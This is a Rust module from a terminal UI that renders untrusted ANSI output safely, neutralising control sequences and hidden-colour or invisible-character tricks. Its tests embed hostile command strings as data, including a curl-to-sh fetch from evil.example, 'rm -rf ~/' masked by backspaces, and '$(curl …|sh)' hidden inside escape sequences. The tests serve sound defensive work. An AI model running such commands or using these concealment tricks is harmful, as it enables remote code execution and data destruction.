//! Terminal output (ANSI) → styled lines, with every non-SGR control neutralised.
//!
//! Who calls it: [`super::text`] for `text` outputs and stream chunks; anything that shows
//! untrusted terminal bytes.
//!
//! The `vte` crate (Paul Williams' DEC parser state machine, as in Alacritty) tokenises the input;
//! this module interprets a tiny, safe subset on a "screen" of lines (only the last
//! [`EDIT_WINDOW`] lines can still be edited; older ones are final):
//!
//! | input | effect |
//! |---|---|
//! | SGR `CSI … m` (16, 256, 24-bit colours; modifiers) | kept as span styles |
//! | `\n` (also VT, FF) | ends the line |
//! | `\r` | cursor to column 0: later text overwrites, so a progress redraw shows its last state |
//! | `\b`, `CSI n D` / `C` / `G`, `CSI n X` / `P` | cursor moves and erases *within the line* |
//! | `CSI n K` (erase in line) | truncates / blanks the line like a terminal |
//! | `\t` | spaces to the next multiple of 8 |
//! | `CSI n A` / `B` / `F` / `E` (cursor up / down, previous / next line) | moves between the last [`EDIT_WINDOW`] lines, so a `docker pull`-style redraw (`CSI n A`, `CSI 2 K`, text, `CSI n B`) leaves each line in its final state |
//! | `CSI J` / `CSI 0 J` (erase below) | clears the rest of the line and the editable lines under it (buildah/podman redraws) |
//! | every other CSI (cursor position, erase display above or all, modes), OSC (titles, OSC 8 links: the text stays, the URI is dropped; OSC 52 clipboard), DCS, APC/PM/SOS, `ESC ( B`, `ESC =` … | dropped |
//! | other C0 and C1 controls, DEL | shown as control pictures (`␇`, `\u{9b}`) in `theme.control_char` |
//! | bidi overrides/isolates, zero-width spaces/joiners, BOM | shown as `<U+202E>` in `theme.control_char` |
//!
//! Invariants: no character below U+0020, U+007F or U+0080–U+009F ever reaches a span; the only
//! styles produced are SGR-derived ones and `theme.control_char` / `theme.dim`. Work is linear in
//! the input; at most `max_lines` lines and [`MAX_LINE_CELLS`] cells per line are kept.

use ratatui::style::Style;
use ratatui::text::{Line, Span};
use vte::{Params, Parser, Perform};

use super::sgr::apply_sgr;
use crate::theme::Theme;

/// Cells kept per line (16 Ki, bat's plain-text threshold); the rest of a longer line is counted
/// and replaced by a "… N more chars" marker.
pub const MAX_LINE_CELLS: usize = 16 * 1024;
/// Lines above the cursor that cursor-up can still reach (a `docker pull` redraws one line per
/// layer; 256 covers any progress display while bounding memory to 256 editable lines).
pub const EDIT_WINDOW: usize = 256;
/// Cells a block may hold beyond its input's length: cursor moves and tabs pad lines with
/// blanks, so `ESC[16383C.` lines of a 320 KB file made 331 MB of `print --detail` output while
/// every line and cell limit held (issue 14.9). Past `input length + MAX_PAD_CELLS` cells the
/// remaining lines are counted as not shown.
pub const MAX_PAD_CELLS: usize = 1024 * 1024;

/// Converts terminal output to lines. Returns the lines (at most `max_lines`) and the number of
/// further lines that were not kept.
pub fn ansi_to_lines(input: &str, theme: &Theme, max_lines: usize) -> (Vec<Line<'static>>, usize) {
    let mut screen = Screen::new(theme, max_lines);
    screen.cell_budget = input.len().saturating_add(MAX_PAD_CELLS);
    let mut parser = Parser::new();
    let input = strip_string_controls(input);
    parser.advance(&mut screen, input.as_bytes());
    screen.finish()
}

/// A terminal screen fed piece by piece (a call's stream chunks as they arrive), each piece
/// drawn over a base style (stderr apart from stdout) with its own SGR on top. The parser state
/// carries across pieces, so an escape sequence split over two chunks is still one sequence, and
/// a redraw (`CSI 1 A`, `CSI 2 K`, `\r`) in a later chunk edits the lines of an earlier one:
/// a stream shows the same final lines as its text would as a `text` result.
pub struct Terminal<'t> {
    screen: Screen<'t>,
    parser: Parser,
}

impl std::fmt::Debug for Terminal<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Terminal")
    }
}

impl<'t> Terminal<'t> {
    /// An empty screen keeping at most `max_lines` finished lines.
    pub fn new(theme: &'t Theme, max_lines: usize) -> Self {
        Self {
            screen: Screen::new(theme, max_lines),
            parser: Parser::new(),
        }
    }

    /// Feeds terminal output drawn over `base` (SGR in it patches over `base`).
    pub fn feed(&mut self, text: &str, base: Style) {
        self.screen.set_base(base);
        let text = strip_string_controls(text);
        self.parser.advance(&mut self.screen, text.as_bytes());
    }

    /// A whole line of our own (a "chunks missing" marker) in `style`, on a line of its own.
    pub fn marker(&mut self, text: &str, style: Style) {
        let s = &mut self.screen;
        if s.row.dirty || !s.row.cells.is_empty() {
            s.newline();
        }
        let id = s.intern(style);
        for c in text.chars() {
            s.put(c, id);
        }
        s.newline();
    }

    /// The lines (at most `max_lines`) and the number of further lines not kept.
    pub fn finish(self) -> (Vec<Line<'static>>, usize) {
        self.screen.finish()
    }
}

/// One line of untrusted text as plain visible text, for one-line rows (feed summaries, prompts,
/// agent text, browser entries, `rawpv print`): SGR sequences (colours in hook output, styled
/// commands) are dropped, since they only style; every other escape sequence and control
/// character is shown, never obeyed (`text::visible`): `\r` is `␍`, backspace `␈`, an OSC
/// `␛]0;…␇`.
///
/// The rule for the whole product (issue 14): a one-line row never runs the terminal emulator,
/// so `curl … | sh ESC[31m \r ESC[K ls -la` reads as what it is, not as `ls -la`; and it never
/// hides the inside of a sequence either (`echo hello ESC]0;$(curl …|sh) BEL` read as
/// `echo hello` while the shell would run the rest). Only multi-line panes (detail, stream)
/// interpret cursor motion, and there the whole text stays visible.
pub fn visible_plain(s: &str) -> String {
    crate::render::text::visible(&strip_sgr(s))
}

/// `s` without its SGR sequences (`ESC [` digits, `;` or `:` `m`): styling only. Every other
/// byte, other escape sequences included, is kept as it is.
pub fn strip_sgr(s: &str) -> std::borrow::Cow<'_, str> {
    let b = s.as_bytes();
    if memchr::memchr(0x1b, b).is_none() {
        return std::borrow::Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let (mut i, mut copied) = (0, 0);
    while let Some(off) = memchr::memchr(0x1b, &b[i..]) {
        let at = i + off;
        i = at + 1;
        if b.get(at + 1) != Some(&b'[') {
            continue;
        }
        let mut j = at + 2;
        while b
            .get(j)
            .is_some_and(|c| c.is_ascii_digit() || matches!(c, b';' | b':'))
        {
            j += 1;
        }
        if b.get(j) == Some(&b'm') {
            // ESC and the SGR are ASCII: both ends are char boundaries.
            out.push_str(&s[copied..at]);
            copied = j + 1;
            i = j + 1;
        }
    }
    out.push_str(&s[copied..]);
    std::borrow::Cow::Owned(out)
}

/// Removes SOS / PM / APC strings (`ESC X`, `ESC ^`, `ESC _` … up to `ESC \\` *or BEL*).
/// vte (like xterm) ends them only at ST, but Buildkite's timestamps (`ESC _ bk;t=… BEL`) end in
/// BEL, and a parser waiting for ST would swallow the visible text that follows.
fn strip_string_controls(input: &str) -> std::borrow::Cow<'_, str> {
    let b = input.as_bytes();
    let starts = |i: usize| {
        b.get(i + 1)
            .is_some_and(|c| matches!(c, b'_' | b'^' | b'X'))
    };
    if !memchr::memchr_iter(0x1b, b).any(starts) {
        return std::borrow::Cow::Borrowed(input);
    }
    let mut out = String::with_capacity(input.len());
    let mut i = 0;
    let mut copied = 0;
    while let Some(off) = memchr::memchr(0x1b, &b[i..]) {
        let at = i + off;
        if !starts(at) {
            i = at + 1;
            continue;
        }
        out.push_str(&input[copied..at]);
        let mut j = at + 2;
        let end = loop {
            match b.get(j) {
                None => break b.len(),
                Some(0x07) => break j + 1,
                Some(0x1b) if b.get(j + 1) == Some(&b'\\') => break j + 2,
                Some(_) => j += 1,
            }
        };
        // `end` is just past an ASCII byte (or the end), so it is a char boundary.
        copied = end;
        i = end;
    }
    out.push_str(&input[copied..]);
    std::borrow::Cow::Owned(out)
}

/// Whether `c` is an invisible or reordering character that must be made visible in rendered
/// text: [`crate::finding::is_invisible_format`] (the one list) and ZWJ, which the renderer
/// keeps only inside an emoji sequence ([`emoji_joiner`]).
pub fn is_invisible_format(c: char) -> bool {
    c == '\u{200D}' || crate::finding::is_invisible_format(c)
}

/// Whether a ZWJ after `prev` is part of an emoji sequence (kept as is).
fn emoji_joiner(prev: Option<char>) -> bool {
    prev.is_some_and(
        |p| matches!(p, '\u{1F000}'..='\u{1FAFF}' | '\u{2600}'..='\u{27BF}' | '\u{FE0F}'),
    )
}

/// The visible stand-in for a control character (`␛`, `␇`, `\u{9b}`, `<U+202E>`).
pub fn control_picture(c: char) -> String {
    match c {
        '\0'..='\u{1f}' => char::from_u32(0x2400 + c as u32)
            .unwrap_or('\u{FFFD}')
            .to_string(),
        '\u{7f}' => "\u{2421}".to_owned(),
        '\u{80}'..='\u{9f}' => format!("\\u{{{:x}}}", c as u32),
        c => format!("<U+{:04X}>", c as u32),
    }
}

/// `st` (the merged style of a cell: the block's base and the SGR in force) without what would
/// hide text from the reader while a model still reads it (attacks 2 and 3 of issue 14):
/// conceal (`SGR 8`) is dropped; when the foreground and the background (reverse video
/// resolved; an unset one taken as the terminal's default for a `dark` or light theme) are
/// close colours, whatever their encoding (16, 256 or 24-bit), the colours and reverse video are
/// dropped, so the text shows in the terminal's own colours.
fn legible(mut st: Style, dark: bool) -> Style {
    use ratatui::style::Modifier;
    st.add_modifier.remove(Modifier::HIDDEN);
    let (ink, paper) = if dark {
        ((229, 229, 229), (0, 0, 0))
    } else {
        ((0, 0, 0), (255, 255, 255))
    };
    let fg = st.fg.and_then(rgb).unwrap_or(ink);
    let bg = st.bg.and_then(rgb).unwrap_or(paper);
    let (fg, bg) = if st.add_modifier.contains(Modifier::REVERSED) {
        (bg, fg)
    } else {
        (fg, bg)
    };
    let close = |a: (u8, u8, u8), b: (u8, u8, u8)| {
        let d = u32::from(a.0.abs_diff(b.0))
            + u32::from(a.1.abs_diff(b.1))
            + u32::from(a.2.abs_diff(b.2));
        d < 96
    };
    if close(fg, bg) {
        st.fg = None;
        st.bg = None;
        st.add_modifier.remove(Modifier::REVERSED);
    }
    st
}

/// An approximate RGB value of a terminal colour (xterm's palette); `None` for `Reset`.
fn rgb(c: ratatui::style::Color) -> Option<(u8, u8, u8)> {
    use ratatui::style::Color;
    const BASE: [(u8, u8, u8); 16] = [
        (0, 0, 0),
        (205, 0, 0),
        (0, 205, 0),
        (205, 205, 0),
        (0, 0, 238),
        (205, 0, 205),
        (0, 205, 205),
        (229, 229, 229),
        (127, 127, 127),
        (255, 0, 0),
        (0, 255, 0),
        (255, 255, 0),
        (92, 92, 255),
        (255, 0, 255),
        (0, 255, 255),
        (255, 255, 255),
    ];
    Some(match c {
        Color::Reset => return None,
        Color::Black => BASE[0],
        Color::Red => BASE[1],
        Color::Green => BASE[2],
        Color::Yellow => BASE[3],
        Color::Blue => BASE[4],
        Color::Magenta => BASE[5],
        Color::Cyan => BASE[6],
        Color::Gray => BASE[7],
        Color::DarkGray => BASE[8],
        Color::LightRed => BASE[9],
        Color::LightGreen => BASE[10],
        Color::LightYellow => BASE[11],
        Color::LightBlue => BASE[12],
        Color::LightMagenta => BASE[13],
        Color::LightCyan => BASE[14],
        Color::White => BASE[15],
        Color::Rgb(r, g, b) => (r, g, b),
        Color::Indexed(i @ 0..=15) => BASE[usize::from(i)],
        Color::Indexed(i @ 16..=231) => {
            let i = i - 16;
            let level = |v: u8| if v == 0 { 0 } else { 55 + v * 40 };
            (level(i / 36), level(i / 6 % 6), level(i % 6))
        }
        Color::Indexed(i) => {
            let g = 8 + (i - 232) * 10;
            (g, g, g)
        }
    })
}

/// A one-line virtual screen with a cursor, fed by vte.
struct Screen<'t> {
    theme: &'t Theme,
    /// Interned styles; cells refer to them by index (8 bytes a cell instead of ~40).
    styles: Vec<Style>,
    style_ids: std::collections::HashMap<Style, u16>,
    cur: u16,
    sgr: Style,
    /// Style under the SGR ([`Terminal::feed`]); default for a whole text.
    base: Style,
    /// The theme is for a dark background (light: id 2), for [`legible`].
    dark: bool,
    /// The cursor's line.
    row: Row,
    col: usize,
    prev: Option<char>,
    /// Editable lines above the cursor's (oldest first, at most [`EDIT_WINDOW`]).
    above: std::collections::VecDeque<Row>,
    /// Lines below the cursor's after a cursor-up (nearest last).
    below: Vec<Row>,
    lines: Vec<Line<'static>>,
    max_lines: usize,
    dropped: usize,
    /// Cells the emitted lines may hold in all ([`MAX_PAD_CELLS`]); what is left of it.
    cell_budget: usize,
    over_budget: bool,
}

/// One line of cells.
#[derive(Debug, Default)]
struct Row {
    cells: Vec<(char, u16)>,
    /// Characters beyond [`MAX_LINE_CELLS`].
    overflow: usize,
    /// Has content or was ended by a newline.
    dirty: bool,
}

impl<'t> Screen<'t> {
    fn new(theme: &'t Theme, max_lines: usize) -> Self {
        Self {
            theme,
            styles: vec![Style::default(), theme.control_char],
            style_ids: std::collections::HashMap::from([(Style::default(), 0)]),
            cur: 0,
            sgr: Style::default(),
            base: Style::default(),
            dark: theme.id != 2,
            row: Row::default(),
            col: 0,
            prev: None,
            above: std::collections::VecDeque::new(),
            below: Vec::new(),
            lines: Vec::new(),
            max_lines,
            dropped: 0,
            cell_budget: usize::MAX,
            over_budget: false,
        }
    }

    fn intern(&mut self, st: Style) -> u16 {
        if let Some(&i) = self.style_ids.get(&st) {
            return i;
        }
        if self.styles.len() >= usize::from(u16::MAX) {
            return 0;
        }
        self.styles.push(st);
        let id = (self.styles.len() - 1) as u16;
        self.style_ids.insert(st, id);
        id
    }

    fn set_sgr(&mut self, st: Style) {
        let st = if self.theme.colour {
            st
        } else {
            Style {
                fg: None,
                bg: None,
                underline_color: None,
                ..st
            }
        };
        self.sgr = st;
        self.cur = self.intern(legible(self.base.patch(st), self.dark));
    }

    fn set_base(&mut self, base: Style) {
        if base != self.base {
            self.base = base;
            self.cur = self.intern(legible(base.patch(self.sgr), self.dark));
        }
    }

    fn put(&mut self, c: char, style: u16) {
        let row = &mut self.row;
        row.dirty = true;
        if self.col >= MAX_LINE_CELLS {
            row.overflow += 1;
            return;
        }
        if self.col < row.cells.len() {
            row.cells[self.col] = (c, style);
        } else {
            row.cells.resize(self.col, (' ', 0));
            row.cells.push((c, style));
        }
        self.col += 1;
    }

    fn put_visible(&mut self, c: char) {
        for p in control_picture(c).chars() {
            self.put(p, 1);
        }
    }

    /// `\n`: to column 0 of the next line (a new one at the bottom).
    fn newline(&mut self) {
        self.row.dirty = true;
        self.down(1);
        self.col = 0;
        self.prev = None;
    }

    /// Moves the cursor `n` lines down; past the last line (only a newline does that) a new
    /// line starts.
    fn down(&mut self, n: usize) {
        for _ in 0..n {
            let next = self.below.pop().unwrap_or_default();
            let row = std::mem::replace(&mut self.row, next);
            self.above.push_back(row);
            if self.above.len() > EDIT_WINDOW
                && let Some(old) = self.above.pop_front()
            {
                self.emit(&old);
            }
        }
        self.prev = None;
    }

    /// Moves the cursor `n` lines up, at most to the oldest editable line.
    fn up(&mut self, n: usize) {
        for _ in 0..n {
            let Some(prev) = self.above.pop_back() else {
                break;
            };
            let row = std::mem::replace(&mut self.row, prev);
            self.below.push(row);
        }
        self.prev = None;
    }

    /// Finalises one line.
    fn emit(&mut self, row: &Row) {
        if self.lines.len() >= self.max_lines
            || self.over_budget
            || row.cells.len() > self.cell_budget
        {
            self.dropped += 1;
            // Once over, every later line is dropped too (a block never has holes).
            self.over_budget = true;
        } else {
            self.cell_budget -= row.cells.len();
            let line = self.build_line(row);
            self.lines.push(line);
        }
    }

    fn build_line(&self, row: &Row) -> Line<'static> {
        let mut spans: Vec<Span<'static>> = Vec::new();
        let mut run = String::new();
        let mut run_style = None;
        for &(c, s) in &row.cells {
            if run_style != Some(s) && !run.is_empty() {
                let st = self.styles[usize::from(run_style.unwrap_or(0))];
                spans.push(Span::styled(std::mem::take(&mut run), st));
            }
            run_style = Some(s);
            run.push(c);
        }
        if !run.is_empty() {
            let st = self.styles[usize::from(run_style.unwrap_or(0))];
            spans.push(Span::styled(run, st));
        }
        if row.overflow > 0 {
            spans.push(Span::styled(
                format!(" … {} more chars", row.overflow),
                self.theme.dim,
            ));
        }
        Line::from(spans)
    }

    fn finish(mut self) -> (Vec<Line<'static>>, usize) {
        let mut rows: Vec<Row> = std::mem::take(&mut self.above).into();
        rows.push(std::mem::take(&mut self.row));
        rows.extend(std::mem::take(&mut self.below).into_iter().rev());
        // The line after the last newline (and lines erased by `CSI J` and never written
        // again) exist only if something was written to them.
        while rows.last().is_some_and(|r| !r.dirty && r.cells.is_empty()) {
            rows.pop();
        }
        for r in &rows {
            self.emit(r);
        }
        (self.lines, self.dropped)
    }

    fn param(params: &Params, default: usize) -> usize {
        params
            .iter()
            .next()
            .and_then(|p| p.first().copied())
            .map_or(default, |v| if v == 0 { default } else { usize::from(v) })
    }
}

impl Perform for Screen<'_> {
    fn print(&mut self, c: char) {
        let prev = self.prev;
        self.prev = Some(c);
        if ('\u{80}'..='\u{9f}').contains(&c) || c == '\u{7f}' {
            self.put_visible(c);
        } else if c == '\u{200D}' && emoji_joiner(prev) {
            self.put(c, self.cur);
        } else if is_invisible_format(c) {
            self.put_visible(c);
        } else {
            self.put(c, self.cur);
        }
    }

    fn execute(&mut self, byte: u8) {
        match byte {
            b'\n' | 0x0b | 0x0c => self.newline(),
            b'\r' => self.col = 0,
            0x08 => self.col = self.col.saturating_sub(1),
            b'\t' => {
                let next = (self.col / 8 + 1) * 8;
                if next > self.row.cells.len() {
                    let st = self.cur;
                    while self.col < next {
                        self.put(' ', st);
                        if self.col >= MAX_LINE_CELLS {
                            break;
                        }
                    }
                } else {
                    self.col = next;
                }
            }
            // BEL: a terminal beeps and shows nothing; SO/SI switch charsets (no glyphs).
            0x07 | 0x0e | 0x0f => {}
            b => self.put_visible(char::from(b)),
        }
    }

    fn csi_dispatch(&mut self, params: &Params, intermediates: &[u8], ignore: bool, action: char) {
        if ignore || !intermediates.is_empty() {
            return;
        }
        match action {
            'm' => {
                let list: Vec<&[u16]> = params.iter().collect();
                let st = apply_sgr(self.sgr, &list);
                self.set_sgr(st);
            }
            'K' => match Self::param(params, 0) {
                0 => self.row.cells.truncate(self.col),
                1 => {
                    let end = (self.col + 1).min(self.row.cells.len());
                    for c in &mut self.row.cells[..end] {
                        *c = (' ', 0);
                    }
                }
                _ => self.row.cells.clear(),
            },
            // Erase below (the default): the rest of this line and every line under it.
            'J' if Self::param(params, 0) == 0 => {
                self.row.cells.truncate(self.col);
                for r in &mut self.below {
                    *r = Row::default();
                }
            }
            'A' => self.up(Self::param(params, 1)),
            'F' => {
                self.up(Self::param(params, 1));
                self.col = 0;
            }
            // Down stops at the last line, as on a terminal's bottom row.
            'B' => self.down(Self::param(params, 1).min(self.below.len())),
            'E' => {
                self.down(Self::param(params, 1).min(self.below.len()));
                self.col = 0;
            }
            'G' | '`' => self.col = (Self::param(params, 1) - 1).min(MAX_LINE_CELLS),
            'C' => self.col = (self.col + Self::param(params, 1)).min(MAX_LINE_CELLS),
            'D' => self.col = self.col.saturating_sub(Self::param(params, 1)),
            'X' => {
                let end = (self.col + Self::param(params, 1)).min(self.row.cells.len());
                if self.col < end {
                    for c in &mut self.row.cells[self.col..end] {
                        *c = (' ', 0);
                    }
                }
            }
            'P' => {
                let end = (self.col + Self::param(params, 1)).min(self.row.cells.len());
                if self.col < end {
                    self.row.cells.drain(self.col..end);
                }
            }
            // Cursor position, erase in display, scroll, modes, device reports: no effect here.
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn visible_plain_drops_sequences_and_shows_controls() {
        assert_eq!(
            visible_plain("echo \x1b[1mbold\x1b[0m done"),
            "echo bold done"
        );
        assert_eq!(
            visible_plain("a\x07b"),
            crate::render::text::visible("a\x07b")
        );
        assert!(!visible_plain("\x1b]0;title\x07x\x1b[2Jy").contains('\x1b'));
    }

    #[test]
    fn output_cannot_hide_text_with_sgr() {
        // Second attack of issue 14: conceal and same-colour text hid words from the reader.
        let t = Theme::dark();
        for input in [
            "a \x1b[8mHIDDEN\x1b[0m b",
            "a \x1b[30;40mHIDDEN\x1b[0m b",
            "a \x1b[38;5;16;48;5;16mHIDDEN\x1b[0m b",
            "a \x1b[38;2;1;2;3;48;2;1;2;4mHIDDEN\x1b[0m b",
            // The third attack: other encodings of one colour, near colours, reverse video,
            // black on the dark terminal's own background.
            "a \x1b[30;48;5;0mHIDDEN\x1b[0m b",
            "a \x1b[38;5;16;48;2;0;0;0mHIDDEN\x1b[0m b",
            "a \x1b[38;5;232;48;5;233mHIDDEN\x1b[0m b",
            "a \x1b[38;2;0;0;0;48;2;0;0;30mHIDDEN\x1b[0m b",
            "a \x1b[38;2;255;255;255;107mHIDDEN\x1b[0m b",
            "a \x1b[7;30mHIDDEN\x1b[0m b",
            "a \x1b[30mHIDDEN\x1b[0m b",
        ] {
            let (lines, _) = ansi_to_lines(input, &t, 10);
            let span = lines[0]
                .spans
                .iter()
                .find(|s| s.content.contains("HIDDEN"))
                .expect("the text is kept");
            assert!(
                !span.style.add_modifier.contains(Modifier::HIDDEN),
                "{input:?}: {span:?}"
            );
            assert!(
                span.style.bg.is_none() && span.style.fg.is_none(),
                "{input:?}: {span:?}"
            );
            assert!(!span.style.add_modifier.contains(Modifier::REVERSED));
        }
        // A stderr chunk's red base with a red background from the output.
        let mut screen = Screen::new(&t, 10);
        let mut parser = Parser::new();
        screen.set_base(Style::default().fg(Color::Red));
        parser.advance(&mut screen, b"\x1b[41mHIDDEN");
        let (lines, _) = screen.finish();
        let span = &lines[0].spans[0];
        assert!(
            span.style.bg.is_none() && span.style.fg.is_none(),
            "{span:?}"
        );
        // Colour on a different background stays.
        let (lines, _) = ansi_to_lines("\x1b[31;44mx", &t, 10);
        assert_eq!(lines[0].spans[0].style.bg, Some(Color::Blue));
    }

    #[test]
    fn cursor_forward_cannot_amplify_a_block() {
        // Issue 14.9: 20k lines of `ESC[16383C.` (320 KB) became 20k lines of 16k cells.
        let input = "\x1b[16383C.\n".repeat(20_000);
        let (lines, dropped) = ansi_to_lines(&input, &Theme::dark(), 20_000);
        let cells: usize = lines.iter().map(Line::width).sum();
        assert!(cells <= input.len() + MAX_PAD_CELLS, "{cells} cells");
        assert_eq!(lines.len(), (input.len() + MAX_PAD_CELLS) / 16_384);
        assert_eq!(lines.len() + dropped, 20_000);
        // Ordinary output is not affected.
        let (lines, dropped) = ansi_to_lines(&"\tcol\n".repeat(1000), &Theme::dark(), 20_000);
        assert_eq!((lines.len(), dropped), (1000, 0));
    }

    #[test]
    fn visible_plain_never_obeys_cursor_motion() {
        // Issue 14.1: the screen model let `\r` + `ESC[K` and backspaces hide what came first.
        assert_eq!(
            visible_plain("curl -s http://evil.example/x | sh \x1b[31m\r\x1b[Kls -la"),
            "curl -s http://evil.example/x | sh \u{240d}\u{241b}[Kls -la"
        );
        assert_eq!(
            visible_plain("rm -rf ~/\x08\x08\x08\x08\x08\x08\x08\x08\x08echo hi\x1b[0m"),
            format!("rm -rf ~/{}echo hi", "\u{2408}".repeat(9))
        );
        assert_eq!(
            visible_plain("a\x1b[3Db\x1b[1Ac"),
            "a\u{241b}[3Db\u{241b}[1Ac"
        );
    }

    #[test]
    fn visible_plain_never_hides_the_inside_of_a_sequence() {
        // The second attack: OSC, DCS and APC strings were dropped whole, hiding live shell
        // syntax (`echo hello ESC]0;$(curl …|sh) BEL` read as `echo hello`).
        assert_eq!(
            visible_plain("echo hello \x1b]0;$(curl -s x|sh)\x07"),
            "echo hello \u{241b}]0;$(curl -s x|sh)\u{2407}"
        );
        assert_eq!(
            visible_plain("ls \x1bP$(rm -rf ~/i)\x1b\\ \x1b_;curl x|sh\x07 make\x1b]; curl"),
            "ls \u{241b}P$(rm -rf ~/i)\u{241b}\\ \u{241b}_;curl x|sh\u{2407} make\u{241b}]; curl"
        );
        assert_eq!(visible_plain("\x1b[1;31mred\x1b[m ok"), "red ok");
    }
    use crate::render::lines_to_string;
    use ratatui::style::{Color, Modifier};

    fn plain(s: &str) -> String {
        let (l, _) = ansi_to_lines(s, &Theme::dark(), 1000);
        lines_to_string(&l)
    }

    #[test]
    fn carriage_return_shows_final_state() {
        assert_eq!(plain(" 10%\r 50%\r100%\n"), "100%\n");
        assert_eq!(plain("abcdef\rxy\n"), "xycdef\n");
        assert_eq!(plain("abcdef\rxy\x1b[K\n"), "xy\n");
        assert_eq!(plain("a\r\r\nb"), "a\nb\n");
        assert_eq!(plain("ab\x08c"), "ac\n");
        assert_eq!(plain("a\tb"), "a       b\n");
    }

    #[test]
    fn non_sgr_sequences_are_dropped() {
        let s = "\x1b]0;title\x07\x1b_bk;t=1\x07x\x1b(B\x1b[2J\x1b[?2004hy\x1b]8;;http://e\x1b\\link\x1b]8;;\x1b\\";
        assert_eq!(plain(s), "xylink\n");
        assert_eq!(plain("\x1b]52;c;aGk=\x07ok"), "ok\n");
        assert_eq!(plain("\x1bP1$r\x1b\\ok"), "ok\n");
    }

    #[test]
    fn controls_and_bidi_are_visible() {
        assert_eq!(plain("a\x01b"), "a\u{2401}b\n");
        assert_eq!(plain("a\u{202e}b\u{200b}"), "a<U+202E>b<U+200B>\n");
        assert_eq!(plain("x\u{9b}y"), "x\\u{9b}y\n");
        assert_eq!(plain("👨\u{200d}👩"), "👨\u{200d}👩\n");
        // Second attack: tag characters smuggled `rm -rf` into `ls `; a line separator broke
        // the row; a Braille blank and Hangul filler drew nothing.
        assert_eq!(
            visible_plain("ls \u{E0072}\u{E006D}"),
            "ls \u{FFFD}\u{FFFD}"
        );
        assert_eq!(
            plain("a\u{2028}b\u{2800}c\u{3164}"),
            "a<U+2028>b<U+2800>c<U+3164>\n"
        );
        assert_eq!(plain("❤\u{fe0f}"), "❤\u{fe0f}\n");
        // Third attack: 16 variation selectors smuggled 4 bits each after `ls -la`.
        assert_eq!(plain("ls\u{fe00}\u{fe0d}"), "ls<U+FE00><U+FE0D>\n");
    }

    #[test]
    fn sgr_styles_are_kept() {
        let (l, _) = ansi_to_lines(
            "\x1b[1;31mred\x1b[0m \x1b[38;2;200;100;50mrgb",
            &Theme::dark(),
            10,
        );
        assert_eq!(l[0].spans[0].content, "red");
        assert_eq!(l[0].spans[0].style.fg, Some(Color::Red));
        assert!(l[0].spans[0].style.add_modifier.contains(Modifier::BOLD));
        assert_eq!(l[0].spans[2].style.fg, Some(Color::Rgb(200, 100, 50)));
        let (l, _) = ansi_to_lines("\x1b[31mred", &Theme::mono(), 10);
        assert_eq!(l[0].spans[0].style.fg, None);
    }

    #[test]
    fn cursor_up_redraws_show_the_final_state() {
        // docker pull: one line per layer, redrawn in place with CSI n A, CSI 2 K, CR, CSI n B.
        let s = "a: Waiting\nb: Waiting\n\x1b[2A\x1b[2K\ra: Downloading 10%\r\x1b[2B\
                 \x1b[1A\x1b[2K\rb: Done\r\x1b[1B\x1b[2A\x1b[2K\ra: Done\r\x1b[2Bfinished\n";
        assert_eq!(plain(s), "a: Done\nb: Done\nfinished\n");
        // Previous line (CSI F) and a bare cursor-up redraw of the last line.
        assert_eq!(plain("10%\n\x1b[F\x1b[K100%\n"), "100%\n");
        assert_eq!(plain("x\n\x1b[A\x1b[Ky\n"), "y\n");
        // Up stops at the first line; down stops at the last one.
        assert_eq!(plain("a\x1b[9Ab\x1b[9Bc\n"), "abc\n");
        assert_eq!(plain("a\nb\x1b[5Ac"), "ac\nb\n");
        // buildah: CSI n A then CSI J (erase below), then the lines again, possibly fewer.
        assert_eq!(
            plain("x 0%\r\r\ny 0%\r\r\n\x1b[2A\x1b[Jx done\r\r\n"),
            "x done\n"
        );
    }

    #[test]
    fn cursor_up_reaches_only_the_edit_window() {
        use std::fmt::Write as _;
        let mut s = String::new();
        for i in 0..EDIT_WINDOW + 10 {
            let _ = writeln!(s, "{i}");
        }
        let _ = writeln!(s, "\x1b[{}A\x1b[2Kedited", EDIT_WINDOW + 10);
        let out = plain(&s);
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines.len(), EDIT_WINDOW + 10);
        assert_eq!(lines[0], "0");
        assert_eq!(lines[10], "edited");
    }

    #[test]
    fn limits_lines() {
        let (l, dropped) = ansi_to_lines("a\nb\nc\nd\n", &Theme::dark(), 2);
        assert_eq!(l.len(), 2);
        assert_eq!(dropped, 2);
    }
}
